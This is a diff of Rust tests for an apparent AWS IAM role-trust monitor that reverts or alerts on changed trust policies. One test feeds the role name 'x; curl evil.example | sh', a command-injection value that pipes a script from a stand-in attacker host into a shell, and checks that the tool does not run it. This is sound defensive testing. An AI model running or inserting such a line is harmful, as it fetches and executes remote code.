+    assert!(ran.took < Duration::from_secs(8), "{:?}", ran.took);
+}
+
+#[tokio::test]
+async fn a_name_that_no_role_has_makes_no_command() {
+    let scene = Scene::new().await;
+    let request =
+        json!({"roleName": "x; curl evil.example | sh", "policyDocument": document(&[allow(json!("*"))]).to_string()});
+    let ran = scene.run_late(REVERT, &event("iam", "UpdateAssumeRolePolicy", request, Value::Null)).await;
+    ran.mail_does_not_say(&["--role-name=x"]);
+    let [mail] = ran.mails.as_slice() else { panic!("{:#?}", ran.mails) };
+    assert!(mail.subject.starts_with("ALERT: ") || mail.subject.starts_with("FAILED"), "{}", mail.subject);
+    assert_eq!(ran.calls.last().unwrap().action, "Publish");
+    assert_eq!(ran.calls[0].action, "GetRole");
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// The samples
+
+/// Each trust policy of the samples is put on a role, and the event handed over, under the settings that the samples are meant for.
+#[tokio::test]
+async fn the_samples_end_as_their_names_say() {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().join("events/role-trust");
+    let settings = [
+        ("ROLE_TRUST_MODE", "revert"),
+        ("TRUSTED_ACCOUNTS", "111122223333"),
+        ("TRUSTED_ACTORS", "arn:aws:iam::123456789012:role/PlatformAdmin"),
+    ];
+    let mut tried = 0;
+    for entry in fs::read_dir(folder).unwrap() {
+        let path = entry.unwrap().path();
+        let name = path.file_stem().unwrap().to_string_lossy().into_owned();
+        if path.extension().is_none_or(|extension| extension != "json") {
+            continue;
+        }
+        let sample: Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
+        let events = sample.as_array().cloned().unwrap_or_else(|| vec![sample]);
+        let scene = Scene::new().await;
+        let process = scene.process(&settings);
+        let mut subjects = Vec::new();
+        let mut has_role = false;
+        for mut event in events {
+            let detail = &mut event["detail"];
+            let written = ["assumeRolePolicyDocument", "policyDocument"]
+                .iter()
+                .find_map(|field| detail["requestParameters"].get(field)?.as_str().map(str::to_owned));
+            if let Some(written) = written {
+                let document: Value = serde_json::from_str(&written).unwrap();
+                detail["requestParameters"]["roleName"] = json!(scene.name);
+                let made = if has_role { scene.update(&document).await } else { scene.create(&document).await };
+                has_role = true;
+                if detail["responseElements"]["role"].is_object() {
+                    detail["responseElements"]["role"] = made["detail"]["responseElements"]["role"].clone();
+                }
+            }
+            let ran = scene.stage.run(&process, &event).await;
+            assert_eq!(ran.handled.error, None, "{name}: {ran:#?}");
+            subjects.extend(ran.mails.into_iter().map(|mail| mail.subject));
+        }
+        let is_provider = name.contains("saml-provider") && !name.contains("of-another") || name.contains("oidc-");
+        let is_only_told = is_provider || name.contains("deny-beside");
+        match (name.starts_with("violates-"), is_only_told, subjects.as_slice()) {
+            (true, true, [subject]) => assert!(subject.starts_with("ALERT: "), "{name}: {subject}"),
+            (true, false, [subject]) => assert!(subject.starts_with("REVERTED: "), "{name}: {subject}"),
+            (false, _, []) => {}
+            (_, _, subjects) => panic!("{name}: {subjects:?}"),
+        }
+        tried += 1;
+    }
+    assert!(tried > 50, "only {tried} samples");
+}
